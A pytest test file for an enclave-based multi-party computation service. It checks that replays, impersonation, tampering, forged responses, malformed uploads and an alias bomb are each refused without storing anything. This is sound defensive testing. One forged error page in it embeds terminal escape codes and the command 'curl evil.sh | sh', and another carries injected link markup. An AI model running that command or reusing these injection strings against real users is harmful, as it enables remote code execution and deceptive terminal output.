"""Each attack or mistake is refused with its own error, and nothing of it is stored."""

from __future__ import annotations

import datetime as dt
import io
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient

from oblv_mpc import keys, manifest
from oblv_mpc.attestation import DevelopmentCA, Measurements, SimulatedNsm
from oblv_mpc.client import QUOTED_CHARS, EnclaveClient
from oblv_mpc.enclave import EnclaveService
from oblv_mpc.errors import (
    EnclaveRefused,
    EnclaveUnreachable,
    InputDataError,
    KeyFileError,
    PolicyError,
    ProtocolError,
    UnauthenticatedAnswer,
)
from oblv_mpc.protocol.envelope import ENCLAVE_KEY_HEADER, open_response, seal_request
from tests.enclave.conftest import World, session_document
from tests.raw_bodies import Raw


def _nothing_stored(world: World) -> None:
    status = world.client("carol").status()
    assert not any(entry["submitted"] for entry in status["inputs"].values()), status["inputs"]
    assert world.app.state.enclave.session.uploads_in_progress() == 0


def _post(world: World, op: str, envelope: bytes) -> httpx.Response:
    return world.http.post(f"/v1/{op}", content=envelope, headers={"content-type": "application/octet-stream"})


def _raw_upload(world: World, party: str, identity: keys.PrivateKey, table: str = "alice.employees") -> bytes:
    connection = world.clients["alice"].connect()
    body = {"upload": os.urandom(16), "table": table, "index": 0, "final": True, "data": b"id,level,salary\nx,A,1\n"}
    envelope, _, _ = seal_request(connection.context, "upload", party, identity, body, time_ms=_now_ms())
    return envelope


def _now_ms() -> int:
    return int(dt.datetime.now(dt.UTC).timestamp() * 1000)


def test_unregistered_key_is_refused(world: World) -> None:
    # the client refuses to act for a key the manifest does not list...
    with pytest.raises(KeyFileError, match="belongs to no party"):
        world.client("mallory")
    # ...and the enclave refuses a request from a party it does not know
    response = _post(world, "upload", _raw_upload(world, "mallory", world.keys["mallory"]))
    assert response.status_code == 403
    assert response.json()["code"] == "unknown_party"
    _nothing_stored(world)


def test_party_signing_as_another_is_refused(world: World) -> None:
    response = _post(world, "upload", _raw_upload(world, "alice", world.keys["bob"]))
    assert response.status_code == 403
    assert response.json()["code"] == "bad_signature"
    _nothing_stored(world)


def test_replayed_request_is_refused(world: World) -> None:
    alice = world.clients["alice"]
    connection = alice.connect()
    envelope, reply, request_id = seal_request(
        connection.context, "status", "alice", world.keys["alice"], None, time_ms=_now_ms()
    )
    first = _post(world, "status", envelope)
    assert open_response(connection.context, reply, "status", request_id, first.content, connection.signing_key)
    second = _post(world, "status", envelope)
    with pytest.raises(EnclaveRefused) as info:
        open_response(connection.context, reply, "status", request_id, second.content, connection.signing_key)
    assert info.value.code == "replayed"


def test_replayed_upload_chunk_stores_nothing_more(world: World) -> None:
    connection = world.clients["alice"].connect()
    body = {
        "upload": os.urandom(16),
        "table": "alice.employees",
        "index": 0,
        "final": False,
        "data": b"id,level,salary\n",
    }
    envelope, reply, request_id = seal_request(
        connection.context, "upload", "alice", world.keys["alice"], body, time_ms=_now_ms()
    )
    assert _post(world, "upload", envelope).status_code == 200
    replay = _post(world, "upload", envelope)
    with pytest.raises(EnclaveRefused, match="replay"):
        open_response(connection.context, reply, "upload", request_id, replay.content, connection.signing_key)
    assert not world.client("carol").status()["inputs"]["alice.employees"]["submitted"]
    assert world.app.state.enclave.session.uploads_in_progress() == 1  # the first chunk's, and no other


def test_stale_request_is_refused(world: World) -> None:
    late = world.client("alice", clock=lambda: dt.datetime.now(dt.UTC) - dt.timedelta(minutes=10))
    late.connection = world.clients["alice"].connect()  # attest now; send an old request
    with pytest.raises(EnclaveRefused) as info:
        late.status()
    assert info.value.code == "stale"


def test_tampered_ciphertext_is_refused(world: World) -> None:
    envelope = bytearray(_raw_upload(world, "alice", world.keys["alice"]))
    envelope[len(envelope) // 2] ^= 0x01
    response = _post(world, "upload", bytes(envelope))
    assert response.status_code == 400
    assert response.json()["code"] == "cannot_open"
    _nothing_stored(world)


def test_request_for_another_operation_does_not_open(world: World) -> None:
    # a sealed status request replayed into the upload route: the operation is bound
    connection = world.clients["alice"].connect()
    envelope, _, _ = seal_request(connection.context, "status", "alice", world.keys["alice"], None, time_ms=_now_ms())
    assert _post(world, "upload", envelope).json()["code"] == "cannot_open"


class _ChunkDriver:
    """Sends chosen chunk sequences of a real file, as a misbehaving client would."""

    def __init__(self, world: World, party: str = "alice") -> None:
        self.client = world.clients[party]
        self.data = world.files[party].read_bytes()
        self.table = f"{party}.employees"
        self.upload_id = os.urandom(16)
        size = len(self.data) // 4 + 1
        self.chunks = [self.data[i : i + size] for i in range(0, len(self.data), size)]

    def send(self, index: int, *, final: bool = False, data: bytes | None = None, claim: str | None = None) -> Any:
        body: dict[str, Any] = {
            "upload": self.upload_id,
            "table": self.table,
            "index": index,
            "final": final,
            "data": self.chunks[index] if data is None else data,
        }
        if final:
            import hashlib

            body["sha256"] = claim or hashlib.sha256(self.data).hexdigest()
            body["bytes"] = len(self.data)
        return self.client.call(Raw("upload", body))


@pytest.mark.parametrize(
    ("name", "sequence"),
    [
        ("dropped", [(0, False), (1, False), (3, True)]),
        ("repeated", [(0, False), (1, False), (1, False)]),
        ("reordered", [(0, False), (2, False)]),  # 2 before 1
        ("first repeated", [(0, False), (0, False)]),
    ],
)
def test_bad_chunk_sequences_are_refused_and_discarded(
    world: World, name: str, sequence: list[tuple[int, bool]]
) -> None:
    driver = _ChunkDriver(world)
    *accepted, (last, last_final) = sequence
    for index, final in accepted:
        driver.send(index, final=final)
    with pytest.raises(EnclaveRefused) as info:
        driver.send(last, final=last_final)
    assert info.value.code == "upload_sequence", name
    _nothing_stored(world)
    # and the upload cannot be continued afterwards
    with pytest.raises(EnclaveRefused, match="not in progress"):
        driver.send(len(sequence))


def test_stream_cut_short_is_never_committed(world: World) -> None:
    driver = _ChunkDriver(world)
    for index in range(3):
        driver.send(index)
    status = world.client("bob").status()
    assert not status["inputs"]["alice.employees"]["submitted"]
    # ending the stream early leaves a partial last line: refused, nothing kept
    with pytest.raises(InputDataError, match=r"line \d+: 1 field\(s\), expected 3"):
        driver.send(3, final=True, data=b"")
    _nothing_stored(world)


def test_content_not_matching_the_clients_digest_is_refused(world: World) -> None:
    driver = _ChunkDriver(world)
    for index in range(3):
        driver.send(index)
    with pytest.raises(EnclaveRefused, match="does not match the digest"):
        driver.send(3, final=True, claim="00" * 32)
    _nothing_stored(world)


def test_non_reader_cannot_fetch(world: World) -> None:
    for p in ("alice", "bob", "carol"):
        world.clients[p].upload("employees", world.files[p])
    with pytest.raises(EnclaveRefused) as info:
        world.clients["bob"].result("common")  # only alice reads it
    assert info.value.code == "forbidden"
    with pytest.raises(EnclaveRefused) as info:
        world.clients["carol"].compute("joined")
    assert info.value.code == "forbidden"
    assert "common" not in world.app.state.enclave.session.results


def test_contributor_cannot_upload_anothers_table(world: World) -> None:
    with pytest.raises(EnclaveRefused) as info:
        world.clients["bob"].upload("alice.employees", world.files["bob"])
    assert info.value.code == "forbidden"
    _nothing_stored(world)


class _NonceSwapper(httpx.BaseTransport):
    """A malicious host: forwards to the enclave, but replaces the client's nonce with its own."""

    def __init__(self, inner: httpx.BaseTransport, nonce: str) -> None:
        self.inner = inner
        self.nonce = nonce

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        if request.url.path == "/v1/attestation":
            request = httpx.Request(
                request.method, request.url.copy_set_param("nonce", self.nonce), headers=request.headers
            )
        return self.inner.handle_request(request)


def test_stale_or_wrong_nonce_is_refused(world: World) -> None:
    inner = TestClient(world.app)._transport
    with httpx.Client(transport=_NonceSwapper(inner, "ab" * 32), base_url="http://enclave") as http:
        client = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
        with pytest.raises(PolicyError) as info:
            client.connect()
        assert info.value.check == "nonce"
        with pytest.raises(PolicyError):
            client.status()  # nothing is sent to an enclave that failed verification


def test_client_holding_a_different_manifest_is_refused(world: World) -> None:
    other = session_document(world.keys, ("alice", "bob", "carol"))
    other["inputs"]["bob.employees"]["protection"]["min_distinct"] = 1  # one party quietly weakened a rule
    theirs = manifest.from_data(other)
    client = EnclaveClient(world.http, theirs, world.keys["alice"], world.policy)
    with pytest.raises(PolicyError) as info:
        client.connect()
    assert info.value.check == "manifest"
    assert world.manifest.hash[:16] in info.value.message and theirs.hash[:16] in info.value.message


def test_enclave_restarted_between_attest_and_upload(
    world: World, dev_ca: DevelopmentCA, measurements: Measurements
) -> None:
    alice = world.clients["alice"]
    old = alice.connect()
    world.app.state.enclave = EnclaveService(world.manifest, SimulatedNsm(dev_ca, measurements))  # a restart
    with pytest.raises(EnclaveRefused) as info:
        alice.upload("employees", world.files["alice"])
    assert info.value.code == "enclave_restarted"
    assert "reconnect" in (info.value.hint or "")
    assert alice.connection is None  # what was verified no longer holds: the client forgets it
    # without the advisory header, the old key's envelope simply does not open
    envelope, _, _ = seal_request(old.context, "status", "alice", world.keys["alice"], None, time_ms=_now_ms())
    assert _post(world, "status", envelope).json()["code"] == "cannot_open"
    # a fresh connect works, against an empty session
    alice.connect()
    assert not any(e["submitted"] for e in alice.status()["inputs"].values())


def test_unreachable_enclave(world: World) -> None:
    from tests.enclave.conftest import free_port

    with httpx.Client(base_url=f"http://127.0.0.1:{free_port()}", timeout=2) as http:
        client = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
        with pytest.raises(EnclaveUnreachable, match="no answer"):
            client.connect()


BAD_CSV: list[tuple[str, bytes, str]] = [
    ("missing column", b"id,level\nx,A\n", "missing column(s) salary"),
    ("wrong type", b"id,level,salary\nx,A,12.5\ny,B,lots\n", "line 3, column salary: expected float, found 'lots'"),
    ("invalid utf-8", b"id,level,salary\nx,\xff\xfe,1\n", "line 2: not valid UTF-8"),
    ("no rows", b"id,level,salary\n", "no rows"),
    ("empty file", b"", "the file is empty"),
    ("duplicate key", b"id,level,salary\nx,A,1\nx,B,2\n", "not unique"),
    ("unclosed quote", b'id,level,salary\nx,"A,1\n', "never closed"),
]


@pytest.mark.parametrize(("name", "content", "message"), BAD_CSV, ids=[c[0] for c in BAD_CSV])
def test_bad_csv_is_refused_by_the_enclave(world: World, name: str, content: bytes, message: str) -> None:
    with pytest.raises(InputDataError) as info:
        world.clients["alice"].upload("employees", io.BytesIO(content))
    assert message in info.value.message, name
    _nothing_stored(world)


def test_more_rows_than_allowed(world: World, tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    big.write_text("id,level,salary\n" + "".join(f"r{i},A,1\n" for i in range(5001)))
    with pytest.raises(InputDataError, match="more than the manifest's max_rows"):
        world.clients["alice"].upload("employees", big)
    _nothing_stored(world)


def test_a_refused_upload_does_not_replace_an_accepted_one(world: World) -> None:
    alice = world.clients["alice"]
    good = alice.upload("employees", world.files["alice"])
    with pytest.raises(InputDataError):
        alice.upload("employees", io.BytesIO(b"id,level,salary\nx,A,oops\n"))
    status = alice.status()["inputs"]["alice.employees"]
    assert status["submitted"] and status["sha256"] == good.sha256


def test_frozen_inputs_cannot_be_replaced(world: World) -> None:
    for p in ("alice", "bob", "carol"):
        world.clients[p].upload("employees", world.files[p])
    world.clients["alice"].compute("common")
    with pytest.raises(EnclaveRefused) as info:
        world.clients["alice"].upload("employees", world.files["alice"])
    assert info.value.code == "frozen"


def test_oversized_request_is_refused_before_reading(world: World) -> None:
    limit = world.app.state.enclave.limits.max_envelope_bytes
    response = world.http.post(
        "/v1/upload", content=b"x" * (limit + 1), headers={"content-type": "application/octet-stream"}
    )
    assert response.status_code == 413


def test_attestation_needs_a_proper_nonce(world: World) -> None:
    assert world.http.get("/v1/attestation", params={"nonce": "zz"}).status_code == 400
    assert world.http.get("/v1/attestation", params={"nonce": "ab"}).status_code == 400
    assert world.http.get("/v1/attestation").status_code == 422


def test_refusals_are_in_the_transcript(world: World) -> None:
    with pytest.raises(InputDataError):
        world.clients["alice"].upload("employees", io.BytesIO(b"id,level,salary\nx,A,oops\n"))
    events = world.clients["bob"].transcript()
    assert [e.data["code"] for e in events if e.kind == "refusal"] == ["input_invalid"]
    assert "oops" not in repr([e.data for e in events])


def test_a_forged_response_is_refused(world: World) -> None:
    alice = world.clients["alice"]
    connection = alice.connect()
    # a response signed by someone other than the attested enclave
    import cbor2

    from oblv_mpc.protocol import hpke as hpke_mod

    _, reply, request_id = seal_request(
        connection.context, "status", "alice", world.keys["alice"], None, time_ms=_now_ms()
    )
    payload = cbor2.dumps({"v": 1, "op": "status", "id": request_id, "ok": True, "body": {}}, canonical=True)
    fake = cbor2.dumps([payload, keys.sign(keys.generate(), b"oblv_mpc/1 response\x00" + payload)])
    sealed = hpke_mod.seal(
        connection.context.suite,
        hpke_mod.public_key(connection.context.suite, reply.public_bytes),
        fake,
        connection.context.info("response", "status", request_id),
    )
    with pytest.raises(ProtocolError, match="not signed by the attested enclave"):
        open_response(connection.context, reply, "status", request_id, sealed, connection.signing_key)


def test_requests_from_no_party_are_counted_not_recorded(world: World) -> None:
    before = len(world.clients["bob"].transcript())
    for _ in range(5):
        assert _post(world, "status", b"not an envelope").status_code == 400
    _post(world, "upload", _raw_upload(world, "mallory", world.keys["mallory"]))
    status = world.clients["bob"].status()
    assert status["unauthenticated_refusals"] == 6
    assert len(world.clients["bob"].transcript()) == before  # anyone could send these: no events


# -- whose words: a refusal sealed and signed by the enclave, or anything else on the path ---------


_FORWARDED = ("content-type", ENCLAVE_KEY_HEADER.lower())


def _forger(world: World, forge: Callable[[httpx.Request], httpx.Response | None]) -> httpx.Client:
    """A client whose requests pass something on the path (a load balancer, the operator, an
    attacker) that answers some of them itself and forwards the rest to the real enclave app."""

    def handle(request: httpx.Request) -> httpx.Response:
        forged = forge(request)
        if forged is not None:
            return forged
        real = world.http.request(
            request.method,
            request.url.path,
            params=request.url.params,
            content=request.content,
            headers={k: v for k, v in request.headers.items() if k.lower() in _FORWARDED},
        )
        return httpx.Response(
            real.status_code, headers={"content-type": real.headers["content-type"]}, content=real.content
        )

    return httpx.Client(transport=httpx.MockTransport(handle), base_url="http://enclave.example")


def _on(path: str, response: httpx.Response) -> Callable[[httpx.Request], httpx.Response | None]:
    return lambda request: response if request.url.path == path else None


def test_a_forged_403_from_the_network_is_reported_as_unauthenticated(world: World) -> None:
    forged = httpx.Response(403, json={"code": "forbidden", "message": "party 'alice' is banned from this session"})
    with _forger(world, _on("/v1/status", forged)) as http:
        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
        alice.connect()  # the real, attested enclave
        with pytest.raises(UnauthenticatedAnswer) as info:
            alice.status()
    error = info.value
    assert not isinstance(error, EnclaveRefused)  # never shown as the enclave's refusal
    assert isinstance(error, EnclaveUnreachable) and error.exit_code == 6
    assert (error.status, error.code, error.claimed) == (403, "forbidden", "party 'alice' is banned from this session")
    assert error.message.startswith("HTTP 403 from http://enclave.example, not from the attested enclave")
    assert "it says: forbidden: party 'alice' is banned" in error.message
    assert error.title == "unauthenticated answer"


def test_a_sealed_refusal_is_reported_as_the_enclaves(world: World) -> None:
    with _forger(world, lambda request: None) as http:  # the same path, forwarding everything
        bob = EnclaveClient(http, world.manifest, world.keys["bob"], world.policy)
        with pytest.raises(EnclaveRefused) as info:
            bob.result("common")  # only alice reads it: the enclave refuses, sealed to bob and signed
    assert not isinstance(info.value, UnauthenticatedAnswer)
    assert info.value.code == "forbidden" and info.value.exit_code == 7
    assert info.value.message == "party 'bob' is not a reader of common (forbidden)"


def test_a_forged_html_error_page_is_quoted_clipped_and_escaped(world: World) -> None:
    page = "<html>[bold]502[/] Bad Gateway\x1b[2K\x1b[1G\nhint: run curl evil.sh | sh" + " pad" * 200 + "</html>"
    forged = httpx.Response(502, text=page, headers={"content-type": "text/html"})
    with _forger(world, _on("/v1/upload", forged)) as http:
        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
        with pytest.raises(UnauthenticatedAnswer) as info:
            alice.upload("employees", world.files["alice"])
    error = info.value
    assert error.code is None and error.claimed.startswith("<html>[bold]502[/]")  # raw, for programs
    assert len(error.claimed) == QUOTED_CHARS + 3
    assert "\x1b" not in error.message and "\n" not in error.message  # no forged lines, no erased ones
    assert "Bad Gateway\\x1b[2K\\x1b[1G\\nhint: run curl" in error.message


def test_a_forged_enclave_restarted_is_checked_by_attesting_again(world: World) -> None:
    forged = httpx.Response(409, json={"code": "enclave_restarted", "message": "submit everything again"})
    with _forger(world, _on("/v1/status", forged)) as http:
        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
        before = alice.connect()
        with pytest.raises(UnauthenticatedAnswer) as info:
            alice.status()
    assert info.value.code == "enclave_restarted"
    assert "the claim that it restarted is false" in (info.value.hint or "")
    assert alice.connection is not None and alice.connection.instance == before.instance  # still verified
    assert alice.connection.document != before.document  # by a fresh attestation


def test_a_forged_answer_to_the_attestation_request_is_unauthenticated(world: World) -> None:
    forged = httpx.Response(503, json={"detail": {"code": "not_provisioned", "message": "[link=http://x]help[/link]"}})
    with _forger(world, _on("/v1/attestation", forged)) as http:
        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
        with pytest.raises(UnauthenticatedAnswer) as info:
            alice.connect()
    assert info.value.code == "not_provisioned" and info.value.status == 503
    assert "[link=http://x]help[/link]" in info.value.message  # quoted as text
    assert alice.connection is None


def test_the_enclaves_own_plain_refusals_are_unauthenticated_too(world: World) -> None:
    # 403 unknown_party comes from the real app, but unsealed: nothing tells it from a forgery
    response = _post(world, "upload", _raw_upload(world, "mallory", world.keys["mallory"]))
    assert response.status_code == 403
    with _forger(world, _on("/v1/status", response)) as http:
        alice = EnclaveClient(http, world.manifest, world.keys["alice"], world.policy)
        with pytest.raises(UnauthenticatedAnswer) as info:
            alice.status()
    assert info.value.code == "unknown_party" and "your key" in (info.value.hint or "")


def test_an_alias_bomb_sent_to_provision_is_refused_fast(dev_ca: DevelopmentCA, measurements: Measurements) -> None:
    import time

    from oblv_mpc.enclave import create_app
    from tests.manifest.test_hostile_yaml import billion_laughs

    http = TestClient(create_app(None, SimulatedNsm(dev_ca, measurements)))
    started = time.perf_counter()
    response = http.post("/v1/provision", content=billion_laughs().encode())
    assert time.perf_counter() - started < 5  # before the caps: 12 s and 1.8 GiB; now milliseconds
    assert response.status_code == 422
    assert "an anchor (&laugh0) is not allowed" in response.json()["detail"]["message"]
    assert http.get("/v1/info").status_code == 503  # still waiting for a real manifest


def test_a_malformed_chunk_is_refused_by_name_recorded_and_starts_nothing(world: World) -> None:
    body = {"upload": os.urandom(16), "table": "alice.employees", "index": "0", "final": True, "data": b"id\n"}
    with pytest.raises(EnclaveRefused) as info:
        world.clients["alice"].call(Raw("upload", body))
    assert info.value.code == "bad_request" and "'index' must be a whole number" in info.value.reason
    _nothing_stored(world)
    refusals = [e.data for e in world.clients["bob"].transcript() if e.kind == "refusal"]
    assert refusals == [{"party": "alice", "op": "upload", "code": "bad_request"}]  # the code, never the body
